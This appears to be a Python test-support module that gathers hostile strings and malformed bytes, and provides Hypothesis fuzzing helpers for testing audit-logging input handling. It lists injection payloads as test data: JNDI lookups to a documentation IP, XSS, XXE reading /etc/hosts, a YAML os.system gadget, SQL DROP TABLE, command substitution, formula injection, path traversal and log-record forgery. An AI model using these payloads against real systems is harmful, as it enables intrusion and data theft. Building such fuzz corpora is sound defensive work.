"""What a client, a container or a careless application may hand over, for tests of whatever takes it."""

from __future__ import annotations

from typing import TYPE_CHECKING

from hypothesis import settings, strategies

if TYPE_CHECKING:
    import random

TEXTS = {
    "empty": "",
    "line-feed": "alice\nDELETE users/1",
    "carriage-return": "alice\rbob",
    "crlf": "a\r\nb",
    "nul": "a\x00b",
    "escape-sequence": "\x1b[2J\x1b]0;owned\x07",
    "backspace": "bob\b\b\balice",
    "c1-control": "a\x9bb",
    "line-separator": "a\u2028b\u2029c",
    "next-line": "a\x85b",
    "right-to-left-override": "gpj.\u202eexe",
    "zero-width": "ali\u200bce\u2060\ufeff",
    "lone-high-surrogate": "a\ud800b",
    "lone-low-surrogate": "a\udfffb",
    "combining": "e" + "\u0301" * 50,
    "astral": "\U0001f4a9" * 3,
    "private-use": "\ue000",
    "noncharacter": "\uffff\U0010ffff",
    "no-break-space": "a\u00a0b",
    "looks-escaped": r"a\nb\\x1b[2J\ud800\\",
    "isolate": "\u2066a\u2069\u2067b",
    "format-string": "%s%n{0}{self.__class__}",
    "json": '"}],"x":[{"',
    "long": "x" * 100_000,
    "long-controls": "\x00" * 5_000,
    "long-astral-controls": "\U000e0001" * 5_000,
}

CLASSES: dict[str, tuple[str, ...]] = {
    "c0": tuple(map(chr, range(0x20))),
    "c1": tuple(map(chr, range(0x7F, 0xA0))),
    "line-break": ("\r\n", "\n\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"),
    "terminal": (
        "\x1b[2J",
        "\x1b[31;1m",
        "\x1b]0;owned\x07",
        "\x1b]52;c;cm0gLXJm\x07",
        "\x9b6n",
        "\x1bP$q\x1b\\",
        "\b" * 9,
        "\x1b]8;;http://203.0.113.9/\x1b\\the archive\x1b]8;;\x1b\\",
    ),
    "bidi": tuple("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    "invisible": tuple("\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u2064\ufeff\ufff9\ufffb\U000e0001\U000e0041"),
    "space": tuple("\u00a0\u1680\u2000\u2003\u202f\u205f\u3000"),
    "surrogate": ("\ud800", "\udbff", "\udc00", "\udc80", "\udcff", "\udfff", "\udc00\ud800", "\ud83d\udca9"),
    "noncharacter": tuple("\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffff"),
    "unassigned": tuple("\u0378\ue000\uf8ff\U000f0000\U0010fffd\U00050000"),
    "astral": ("\U0001f4a9", "\U0001d4d0", "\U00020000", "\U0001f468\u200d\U0001f469\u200d\U0001f467"),
    "combining": ("\u0301" * 60, "Z\u0351\u036b\u0343\u036a\u0302" * 9, "\u20dd", "\u0e33\u0e33"),
    "alike": (
        "\u0430lice",
        "\uff41\uff4c\uff49\uff43\uff45",
        "\ufb01",
        "\u0130",
        "\u00df",
        "A\u030a",
        "\u212b",
        "\u037e",
    ),
    "escape": (
        "\\",
        "\\\\",
        "\\n",
        "\\\\n",
        "\\x1b[2J",
        "\\u202e",
        "\\ud800",
        "\\U0001f4a9",
        "\\xZZ",
        "\\x1",
        "C:\\new\\temp",
        "%0A",
        "%0d%0a",
        "%00",
        "%250A",
        "%c0%af",
        "%u000a",
        "&#10;",
        "&#x202e;",
        "=0A",
        "\\012",
        "\\N{BEL}",
    ),
    "cut": ("…", "...", "[masked]", "[MASKED]", "\\u2026", "<truncated>"),
    "json": (
        '"',
        '"}',
        '"}]}',
        '\\"',
        '","audit.actor.id":"root","x":"',
        '{"$ne":null}',
        "[" * 500,
        '{"a":' * 200,
        "null",
        "1e999",
        '"}},{"key":"audit.actor.id","value":{"stringValue":"root"}},{"key":"x","value":{"stringValue":"',
    ),
    "record": (
        (
            '\n{"resourceLogs":[{"resource":{},"scopeLogs":[{"scope":{"name":"tron_audit_otel"},"logRecords":[{"eventName":'
            '"tron.audit.request","body":{"stringValue":"root DELETE users/1: success (204)"},"attributes":[{"key":'
            '"audit.record.id","value":{"stringValue":"00000000-0000-4000-8000-000000000001"}}]}]}]}]}\n'
        ),
        (
            '\n{"event_name":"tron.audit.request","audit.record.id":"00000000-0000-4000-8000-000000000001",'
            '"audit.actor.id":"root","audit.outcome":"success"}\n'
        ),
        " alice@example.com DELETE users/1 from 192.0.2.7: success (204)",
        "\n2026-01-02T03:04:05Z INFO alice@example.com DELETE users/1 from 192.0.2.7: success (204)",
    ),
    "markup": (
        "<script>alert(1)</script>",
        "<!--",
        "]]>",
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hosts">]>&y;',
        "</td>",
        "'><img src=x onerror=alert(1)>",
        "![](http://203.0.113.9/a)",
        "<a href='javascript:alert(1)'>",
        "{{7*7}}",
    ),
    "yaml": (
        "- !!python/object/apply:os.system [id]",
        "&a *a",
        "\n---\n",
        "\n...\n",
        "? : |",
        "!!binary AA==",
        "<<: *x",
        "NO",
    ),
    "template": (
        "${jndi:ldap://203.0.113.9/a}",
        "${${lower:j}ndi:dns://203.0.113.9}",
        "${env:DD_API_KEY}",
        "$${HOME}",
        "$(id)",
        "%s%n%x%p",
        "{0.__class__.__mro__}",
        "{self}",
        "%(audit)s",
        "`id`",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{ .Env }}",
        "$1\\1",
    ),
    "query": (
        "' OR '1'='1' --",
        "'; DROP TABLE users; --",
        '" | delete index=*',
        "| stats count | outputlookup x",
        "*) OR (*:*",
        'audit.outcome:"success" OR *',
        "_time:5m | delete",
        "/.*/ AND NOT _exists_:a",
        'set(log.attributes["a"], "b")',
        "{service.name=~'.+'} | drop",
        "user.id : *",
        "_msg:*",
    ),
    "line-format": (
        ' level=error actor=root msg="',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)",
        "-1",
        "\tx\ty",
        "a,b;c|d",
        "\ufeffsep=;",
        "<13>1 2026-01-02T03:04:05Z h a - - - x",
        "CEF:0|a|b|c|d|e|9|act=",
        "LEEF:2.0|",
        "#Fields: x",
    ),
    "header": (
        "\r\nX-Forwarded-For: 203.0.113.9",
        "\r\n\r\nGET / HTTP/1.1\r\n",
        'a; b="c',
        'for="[::1]:80";by=_x',
        "q" * 300,
    ),
    "path": (
        "../..",
        "..%2f..%2fetc%2fpasswd",
        "//evil",
        "..;",
        ".%00.json",
        "\\..\\",
        "%2e%2e/",
        ";a=b",
        "~",
        "?a=b",
        "#x",
    ),
    "long": (
        "x" * 1_023,
        "x" * 1_024,
        "x" * 1_025,
        "\u00e9" * 4_097,
        "\x00" * 600,
        "\U000e0001" * 450,
        "\\n" * 2_048,
        "a b " * 2_000,
    ),
    "huge": ("x" * 100_000, "\n" * 100_000, "\ud800" * 20_000, "\\" * 100_001, "\U0001f4a9" * 25_000),
}
"""What has done harm somewhere, by kinds; ``mixed`` puts it together."""

NOT_UTF_8 = (
    b"\x80",
    b"\xbf",
    b"\xff",
    b"\xfe\xff",
    b"\xff\xfe\x00\x00",
    b"\xc3",
    b"\xe2\x80",
    b"\xf0\x9f\x92",
    b"\xc0\xaf",
    b"\xc0\x80",
    b"\xc1\xbf",
    b"\xe0\x80\xaf",
    b"\xf0\x80\x80\xaf",
    b"\xf8\x88\x80\x80\x80",
    b"\xfc\x84\x80\x80\x80\x80",
    b"\xed\xa0\x80",
    b"\xed\xbf\xbf",
    b"\xed\xa0\xbd\xed\xb2\xa9",
    b"\xf4\x90\x80\x80",
    b"\xf7\xbf\xbf\xbf",
    b"\xe2\x28\xa1",
    b"\x9b31m",
    b"\xa0",
    b"caf\xe9",
    b"\xe2\x80\xae\xc3",
    b"\xef\xbb\xbf\xef\xbb",
)
"""Continuations and bytes alone, overlong, truncated, surrogates, past the end of Unicode, other encodings."""

RARE = {"huge": 0.03, "long": 0.25}
"""How often these are taken where they could be: they take long."""


def mixed(chance: random.Random, pieces_max: int = 4) -> str:
    """Gives a text of one to so many hostile pieces, some of which stand between harmless ones."""
    pieces = []
    for _ in range(chance.randint(1, pieces_max)):
        kind = chance.choice(tuple(CLASSES))
        if chance.random() > RARE.get(kind, 1):
            kind = "c0"
        pieces.append(chance.choice(CLASSES[kind]))
        if chance.random() < 0.4:
            pieces.append(chance.choice(("alice", " ", "/", "-", "7", "\u00e9", "\u4e16")))
        if chance.random() < 0.1:
            pieces.append("".join(chr(chance.randrange(0x110000)) for _ in range(chance.randint(1, 12))))
    return "".join(pieces)


def mixed_bytes(chance: random.Random) -> bytes:
    """Gives the bytes of such a text, with some that are no UTF-8 in it, or bytes at random."""
    if chance.random() < 0.2:
        return chance.randbytes(chance.randint(1, 40))
    raw = mixed(chance).encode("utf-8", "surrogatepass")
    at = chance.randint(0, min(len(raw), 1_000))
    return raw[:at] + (chance.choice(NOT_UTF_8) if chance.random() < 0.7 else b"") + raw[at:]


text = strategies.text(strategies.characters())  # with lone surrogates, which `text()` alone leaves out
"""Any string that Python can hold."""

fuzzed = settings(derandomize=True, database=None)
"""The same examples in each run, on a machine of any speed: a failure is a failure of this commit."""


def is_safe_line(text: str, characters_max: int) -> bool:
    """Whether text is one printable line within its bound, which UTF-8 can carry."""
    text.encode("utf-8")
    return len(text) <= characters_max and text.isprintable()
